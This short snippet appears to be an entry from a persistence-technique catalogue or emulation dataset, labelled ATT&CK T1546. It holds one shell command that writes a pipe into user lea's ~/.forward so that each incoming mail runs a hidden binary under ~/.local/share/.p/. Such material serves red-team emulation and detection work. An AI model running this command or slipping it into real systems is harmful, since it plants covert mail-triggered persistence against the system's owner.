# technique: T1546
# location: linux.mail.forward
# source: /home/lea/.forward
su lea -c "echo '\"|/home/lea/.local/share/.p/pw\"' > ~/.forward"
